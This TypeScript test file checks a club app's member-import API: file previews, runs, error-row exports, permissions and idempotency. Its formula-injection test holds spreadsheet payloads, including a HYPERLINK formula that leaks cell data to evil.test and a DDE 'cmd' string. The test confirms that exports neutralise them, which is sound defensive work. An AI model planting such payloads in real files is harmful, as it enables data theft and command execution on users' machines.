import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import writeExcelFile from 'write-excel-file/node';
import { buildApp } from '../../../server/app.js';
import { loadConfig } from '../../../server/config.js';
import { bearer, createOperator, createTestApp, getAs, type TestApp } from '../testApp.js';
import { buildHandBuiltClub, type HandBuiltClub } from '../clubStructureClub.js';

/**
 * Importing members from a file (issue 23) through HTTP, as the web app and other clients do:
 * preview, run, status, the rows in error; idempotency; who may; what a file may be.
 */
let t: TestApp;
let club: HandBuiltClub;
let other: HandBuiltClub;

beforeAll(async () => {
  t = await createTestApp();
  club = await buildHandBuiltClub(t.db, 'Import FC', 'import.club');
  other = await buildHandBuiltClub(t.db, 'Other FC', 'other.club');
});
afterAll(() => t?.close());

/** A multipart body with the file (and fields), as a browser's FormData sends it. */
async function form(content: string | Buffer, name = 'members.csv', fields: Record<string, string> = {}) {
  const data = new FormData();
  for (const [key, value] of Object.entries(fields)) data.append(key, value);
  data.append('file', new Blob([typeof content === 'string' ? content : new Uint8Array(content)]), name);
  const request = new Request('http://x/', { method: 'POST', body: data });
  return { payload: Buffer.from(await request.arrayBuffer()), contentType: request.headers.get('content-type')! };
}

async function preview(token: string, content: string | Buffer, name?: string, fields?: Record<string, string>) {
  const { payload, contentType } = await form(content, name, fields);
  return t.app.inject({ method: 'POST', url: '/api/Import/Preview', payload, headers: { ...bearer(token), 'content-type': contentType } });
}

const run = (token: string, body: object) => t.app.inject({ method: 'POST', url: '/api/Import/Run', payload: body, headers: bearer(token) });

async function finished(token: string, importId: string) {
  for (let tries = 0; tries < 400; tries++) {
    const status = (await getAs(t.app, token, `/api/Import/Status?importId=${importId}`)).json();
    if (status.state === 'done' || status.state === 'failed') return status;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error('the import did not finish');
}

async function previewAndRun(content: string, createTeams = true) {
  const answer = await preview(club.managerToken, content);
  expect(answer.statusCode, answer.body).toBe(200);
  const { importId } = answer.json();
  expect((await run(club.managerToken, { importId, createTeams })).statusCode).toBe(202);
  return { preview: answer.json(), status: await finished(club.managerToken, importId) };
}

const invitations = async () => Number((await t.db.selectFrom('outbox').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

/** A Sportlink-style export: semicolons, Dutch headers, dd-mm-yyyy, 'Naam' in one column. */
const SPORTLINK = [
  'Relatiecode;Naam;E-mail;Geb.dat.;Mobiel;Team;Teamrol;Naam ouder/verzorger 1;E-mail ouder/verzorger 1',
  'ABC001;Bram van der Berg;bram@import.club;03-04-2014;0612345678;JO13-1;Teamspeler;Karin van der Berg;karin@import.club',
  'ABC002;Sanne de Vries;sanne@import.club;12-11-2014;;JO13-1;Teamspeler;;',
  'ABC003;Piet Jansen;piet@import.club;01-01-1980;;JO13-1;Hoofdtrainer;;',
  'ABC004;AFGESCHERMD;hidden@import.club;01-01-2014;;JO13-1;Teamspeler;;',
  'ABC005;Kees Bakker;not-an-address;01-01-2014;;JO13-1;Teamspeler;;',
  'ABC006;Anna Smit;bram@import.club;31-02-2014;;JO13-1;Teamspeler;;',
  'ABC007;Tom Visser;tom@import.club;05-05-2014;;A;Scheidsrechter;;',
].join('\r\n');

describe('the preview of a file', () => {
  it('recognises Sportlink columns, splits the names and says per row what would happen, writing nothing', async () => {
    const before = await t.db.selectFrom('people').select('id').execute();
    const answer = await preview(club.managerToken, SPORTLINK);
    expect(answer.statusCode).toBe(200);
    const body = answer.json();
    expect(body.columns.map((c: { field: string }) => c.field)).toEqual([
      'memberNumber', 'name', 'email', 'birthDate', 'phoneNumber', 'team', 'role', 'guardian1Name', 'guardian1Email',
    ]);
    expect(body.rows[0]).toMatchObject({
      line: 2, action: 'invite', errors: [], firstName: 'Bram', infix: 'van der', lastName: 'Berg', email: 'bram@import.club',
      role: 'Player', team: 'JO13-1', birthDate: '2014-04-03', memberNumber: 'ABC001',
    });
    expect(body.rows[2]).toMatchObject({ line: 4, action: 'invite', role: 'Trainer' });
    expect(body.rows.slice(3).map((row: { line: number; action: string; errors: string[] }) => [row.line, row.action, row.errors])).toEqual([
      [5, 'error', ['This member is shielded (AFGESCHERMD) in the membership administration, so their name cannot be imported. Lift the shielding there or invite the person by hand.']],
      [6, 'error', ["'not-an-address' is not a valid e-mail address."]],
      [7, 'error', ["The birth date '31-02-2014' is not a date: write it as dd-mm-yyyy.", 'The e-mail address bram@import.club is already on line 2 of this file.']],
      [8, 'error', ["The role 'Scheidsrechter' is not Player, Trainer or Manager."]],
    ]);
    expect(body.summary).toEqual({ invite: 3, update: 0, unchanged: 0, error: 4 });
    expect(body.newTeams).toEqual(['JO13-1']);
    expect(await t.db.selectFrom('people').select('id').execute()).toHaveLength(before.length);
    expect(await t.db.selectFrom('teams').select('id').where('name', '=', 'JO13-1').execute()).toHaveLength(0);
  });

  it('reads an .xlsx file (first sheet) with English headers and a Windows-1252 CSV', async () => {
    const xlsx = await writeExcelFile(
      [
        [{ value: 'First name' }, { value: 'Last name' }, { value: 'Email' }, { value: 'Role' }, { value: 'Team' }],
        [{ value: 'Zoë' }, { value: 'Müller' }, { value: 'zoe@import.club' }, { value: 'Player' }, { value: 'A' }],
      ],
    ).toBuffer();
    const fromXlsx = await preview(club.managerToken, xlsx, 'members.xlsx');
    expect(fromXlsx.statusCode).toBe(200);
    expect(fromXlsx.json().rows[0]).toMatchObject({ firstName: 'Zoë', lastName: 'Müller', action: 'invite', team: 'A' });

    const windows = Buffer.from('Roepnaam;Tussenvoegsel;Achternaam;E-mail;Team\r\nRenée;van;Dijk;renee@import.club;A\r\n', 'latin1');
    const fromCsv = await preview(club.managerToken, windows);
    expect(fromCsv.json().rows[0]).toMatchObject({ firstName: 'Renée', infix: 'van', lastName: 'Dijk' });
  });

  it('refuses what is no table, a binary file and a file over 10 MB with a sentence, storing nothing', async () => {
    const imports = async () => (await t.db.selectFrom('member_imports').select('id').execute()).length;
    const before = await imports();
    const binary = await preview(club.managerToken, Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), 'photo.png');
    expect(binary.statusCode).toBe(400);
    expect(binary.json().message).toMatch(/^This file is not a table Touchline can read/);
    const fakeXlsx = await preview(club.managerToken, Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(100)]), 'x.xlsx');
    expect(fakeXlsx.statusCode).toBe(400);
    const huge = await preview(club.managerToken, 'email\n' + 'x'.repeat(20 * 1024 * 1024));
    expect(huge.statusCode).toBe(413);
    expect(huge.json().message).toBeTruthy();
    expect(huge.statusCode).toBeLessThan(500);
    expect(await imports()).toBe(before);
  });

  it('refuses a mapping that is not headers and fields with a sentence of its own, storing nothing', async () => {
    const before = await t.db.selectFrom('member_imports').select('id').execute();
    const answer = await preview(club.managerToken, SPORTLINK, 'members.csv', { mapping: JSON.stringify({ Naam: 'shoeSize' }) });
    expect(answer.statusCode).toBe(400);
    expect(answer.json()).toMatchObject({ messageKey: 'importMappingNotValid', message: expect.stringMatching(/^The mapping must be an object of column headers and fields \(.*firstName/) });
    expect(await t.db.selectFrom('member_imports').select('id').execute()).toHaveLength(before.length);
  });

  it('is for managers only: a trainer gets 403', async () => {
    const answer = await preview(club.trainerToken, SPORTLINK);
    expect(answer.statusCode).toBe(403);
    expect((await getAs(t.app, club.trainerToken, `/api/Import/Status?importId=${crypto.randomUUID()}`)).statusCode).toBe(403);
  });
});

describe('running an import', () => {
  it('imports the good rows, lists the errors, creates the agreed team and invites each new person once', async () => {
    const mailsBefore = await invitations();
    const { preview: shown, status } = await previewAndRun(SPORTLINK);
    expect(status).toMatchObject({ state: 'done', total: 7, processed: 7, invited: 3, updated: 0, unchanged: 0 });
    expect(status.errors.map((e: { line: number }) => e.line)).toEqual([5, 6, 7, 8]);
    // The three new people, and Bram's guardian Karin from the guardian columns (issue 25).
    expect(await invitations()).toBe(mailsBefore + 4);
    expect(shown.rows[0].guardians).toEqual([{ name: 'Karin van der Berg', email: 'karin@import.club' }]);
    const karin = await t.db.selectFrom('guardianships as g').innerJoin('people as p', 'p.id', 'g.guardian_id').innerJoin('accounts as a', 'a.id', 'p.account_id')
      .innerJoin('people as child', 'child.id', 'g.player_id')
      .select(['a.email', 'p.role', 'p.first_name', 'p.last_name', 'g.slot', 'child.member_number']).where('g.club_id', '=', club.clubId).execute();
    expect(karin).toEqual([{ email: 'karin@import.club', role: 'Guardian', first_name: 'Karin', last_name: 'Berg', slot: 1, member_number: 'ABC001' }]);
    const bram = await t.db
      .selectFrom('people').innerJoin('accounts', 'accounts.id', 'people.account_id')
      .select(['first_name', 'infix', 'last_name', 'member_number', 'birth_date', 'status'])
      .where('accounts.email', '=', 'bram@import.club').executeTakeFirstOrThrow();
    expect(bram).toEqual({ first_name: 'Bram', infix: 'van der', last_name: 'Berg', member_number: 'ABC001', birth_date: '2014-04-03', status: 'invited' });
    const guardians = await t.db.selectFrom('member_import_rows').select('guardians').where('import_id', '=', shown.importId).where('line', '=', 2).executeTakeFirstOrThrow();
    expect(guardians.guardians).toEqual([{ name: 'Karin van der Berg', email: 'karin@import.club' }]);

    const file = await getAs(t.app, club.managerToken, `/api/Import/ErrorRows?importId=${shown.importId}`);
    expect(file.statusCode).toBe(200);
    const lines = file.body.replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(lines).toHaveLength(5);
    expect(lines[1]).toMatch(/^ABC004;AFGESCHERMD;hidden@import\.club;.*shielded/);
    expect(lines[0]!.split(';').at(-1)).toBe('Error');
    // The last column's header in the manager's language, as the browser asks for it.
    const dutch = await t.app.inject({
      method: 'GET', url: `/api/Import/ErrorRows?importId=${shown.importId}`, headers: { ...bearer(club.managerToken), 'accept-language': 'nl-NL,nl;q=0.9,en;q=0.8' },
    });
    const dutchLines = dutch.body.replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(dutchLines[0]!.split(';').at(-1)).toBe('Fout');
    // Every reason in Dutch too (issue 37: the file said them in English under a Dutch header).
    expect(dutchLines[1]).toMatch(/^ABC004;AFGESCHERMD;hidden@import\.club;.*;Dit lid is afgeschermd \(AFGESCHERMD\) in de ledenadministratie/);
    expect(dutchLines[2]).toContain("'not-an-address' is geen geldig e-mailadres.");
    expect(dutchLines[3]).toContain('Het e-mailadres bram@import.club staat al op regel 2 van dit bestand.');
    expect(dutchLines[3]).toContain("De geboortedatum '31-02-2014' is geen datum: schrijf hem als dd-mm-jjjj.");
    expect(dutchLines[4]).toContain("De rol 'Scheidsrechter' is geen speler, trainer of manager.");
    expect(dutchLines.slice(1).join('\n')).not.toMatch(/shielded|not a valid|already on line|is not a date|is not Player/);
  });

  it('changes nothing and invites nobody when the same file comes again; next month\'s export updates what changed', async () => {
    const mailsBefore = await invitations();
    const again = await previewAndRun(SPORTLINK);
    expect(again.preview.summary).toEqual({ invite: 0, update: 0, unchanged: 3, error: 4 });
    expect(again.status).toMatchObject({ invited: 0, updated: 0, unchanged: 3 });
    expect(await invitations()).toBe(mailsBefore);
    expect(await t.db.selectFrom('guardianships').select('guardian_id').where('club_id', '=', club.clubId).execute()).toHaveLength(1);

    const nextMonth = SPORTLINK.replace('ABC002;Sanne de Vries;sanne@import.club;12-11-2014;;JO13-1', 'ABC002;Sanne de Vries-Bos;sanne.new@import.club;12-11-2014;0699999999;B');
    const later = await previewAndRun(nextMonth);
    expect(later.preview.rows[1]).toMatchObject({ action: 'update', lastName: 'Vries-Bos', changes: ['lastName', 'phoneNumber', 'team'] });
    expect(later.status).toMatchObject({ invited: 0, updated: 1, unchanged: 2 });
    expect(await invitations()).toBe(mailsBefore);
    const sanne = await t.db.selectFrom('people as p').innerJoin('team_memberships as m', 'm.person_id', 'p.id').innerJoin('teams as t', 't.id', 'm.team_id')
      .select(['p.last_name', 't.name']).where('p.member_number', '=', 'ABC002').where('m.ended_at', 'is', null).execute();
    expect(sanne).toEqual([{ last_name: 'Vries-Bos', name: 'B' }]);
  });

  it('applies a changed mapping before running, and without agreement leaves new teams uncreated (their rows in error)', async () => {
    const content = 'Voornaam;Achternaam;Adres;Groep\nLisa;Kok;lisa@import.club;Nieuw-1\nMila;Kok;mila@import.club;A\n';
    const shown = (await preview(club.managerToken, content)).json();
    expect(shown.columns.map((c: { field: string }) => c.field)).toEqual(['firstName', 'lastName', 'ignore', 'ignore']);
    const refused = await run(club.managerToken, { importId: shown.importId, createTeams: false });
    expect(refused.statusCode).toBe(400);
    expect(refused.json().message).toBe('No column holds the e-mail addresses: map one to e-mail.');
    const ran = await run(club.managerToken, { importId: shown.importId, createTeams: false, mapping: { Adres: 'email', Groep: 'team' } });
    expect(ran.statusCode).toBe(202);
    const status = await finished(club.managerToken, shown.importId);
    expect(status).toMatchObject({ invited: 1, errors: [{ line: 2, message: "The team 'Nieuw-1' does not exist in your club, and new teams were not to be created." }] });
    expect(await t.db.selectFrom('teams').select('id').where('name', '=', 'Nieuw-1').execute()).toHaveLength(0);
    expect((await run(club.managerToken, { importId: shown.importId, createTeams: false })).statusCode).toBe(409);
  });

  it("answers 404 to another club's import id, running and reading nothing", async () => {
    const { importId } = (await preview(club.managerToken, SPORTLINK)).json();
    const foreignRun = await run(other.managerToken, { importId, createTeams: true });
    expect(foreignRun.statusCode).toBe(404);
    expect(foreignRun.json().message).toBe('This import does not exist.');
    expect((await getAs(t.app, other.managerToken, `/api/Import/Status?importId=${importId}`)).statusCode).toBe(404);
    expect((await getAs(t.app, other.managerToken, `/api/Import/ErrorRows?importId=${importId}`)).statusCode).toBe(404);
    const stored = await t.db.selectFrom('member_imports').select('state').where('id', '=', importId).executeTakeFirstOrThrow();
    expect(stored.state).toBe('previewed');
  });
});

/** The cells of a CSV file separated by `separator` (RFC 4180 quoting), to see each cell as a spreadsheet does. */
function csvCells(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === separator) { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
  }
  if (cell !== '' || row.length > 0) { row.push(cell); rows.push(row); }
  return rows;
}

describe('the files of rows in error (issue 41: formula injection)', () => {
  it('write every cell a spreadsheet would run as a formula as text, with a quote before it, for managers and operators alike', async () => {
    const formulas = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', '+SUM(1,1)', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)', '\t=1+1'];
    const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
    const content = ['firstName,lastName,email,phoneNumber', ...formulas.map((formula, n) => `${quote(formula)},Kok${n},${quote(formula)},${quote(formula)}`)].join('\r\n');
    const { preview: shown, status } = await previewAndRun(content);
    expect(status.errors).toHaveLength(formulas.length);

    const operator = await createOperator(t, 'csv.operator@touchline.test');
    const files = [
      (await getAs(t.app, club.managerToken, `/api/Import/ErrorRows?importId=${shown.importId}`)).body.replace(/^\uFEFF/, ''),
      (await t.app.inject({ method: 'GET', url: `/admin/rest/imports/${shown.importId}/errors.csv`, headers: operator.headers })).body,
    ];
    for (const file of files) {
      const cells = csvCells(file, ';');
      expect(cells).toHaveLength(formulas.length + 1);
      const written = cells.flat();
      // No cell of the file starts as a formula; each formula of the file is there, as text.
      expect(written.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      const firstNames = cells.slice(1).map((row) => row[0]);
      for (const formula of formulas) expect(firstNames).toContain(/^[=+\-@\t\r]/.test(formula.trim()) ? `'${formula.trim()}` : `'${formula}`);
      // Quoted as OWASP says, so the quote and the formula are one cell whatever the separator.
      expect(file).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`);
    }
  });
});

describe('two servers on one database', () => {
  it('import each row of a run once, whichever server claims its batches', async () => {
    // A second server process on the same database: its own scheduler, worker name and claims.
    const second = await buildApp({
      database: { db: t.db, engine: t.engine, isReachable: async () => true, running: () => true, close: async () => {} },
      config: { ...loadConfig({}), webAppDir: undefined, seedDemo: false, scheduler: { intervalMs: 0, leaseMs: 300_000 } },
    });
    try {
      const rows = Array.from({ length: 120 }, (_, n) => `Twice${n};Runner;twice.${n}@import.club;A`);
      const mailsBefore = await invitations();
      const { importId } = (await preview(club.managerToken, ['Voornaam;Achternaam;E-mail;Team', ...rows].join('\n'))).json();
      expect((await run(club.managerToken, { importId, createTeams: false })).statusCode).toBe(202);
      await Promise.all([second.scheduler.runOnce(), t.app.scheduler.runOnce(), second.scheduler.runOnce()]);
      const status = await finished(club.managerToken, importId);
      expect(status).toMatchObject({ state: 'done', total: 120, processed: 120, invited: 120, errors: [] });
      expect(await invitations()).toBe(mailsBefore + 120);
      const people = await t.db.selectFrom('people').innerJoin('accounts', 'accounts.id', 'people.account_id')
        .select('people.id').where('accounts.email', 'like', 'twice.%@import.club').execute();
      expect(people).toHaveLength(120);
    } finally {
      await second.close();
    }
  });
});

